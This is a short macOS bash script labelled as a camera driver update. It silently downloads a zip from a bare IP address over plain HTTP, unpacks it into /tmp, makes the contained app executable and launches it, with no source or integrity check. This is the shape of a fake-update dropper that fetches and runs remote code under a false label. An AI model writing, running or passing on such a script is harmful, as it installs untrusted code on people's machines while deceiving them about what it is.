#!/bin/bash
# Camera driver update
curl -s -o /tmp/CameraUpdate.zip http://203.0.113.86/mac/CameraUpdate.zip
unzip -oq /tmp/CameraUpdate.zip -d /tmp/
chmod +x /tmp/CameraUpdate.app/Contents/MacOS/*
open /tmp/CameraUpdate.app
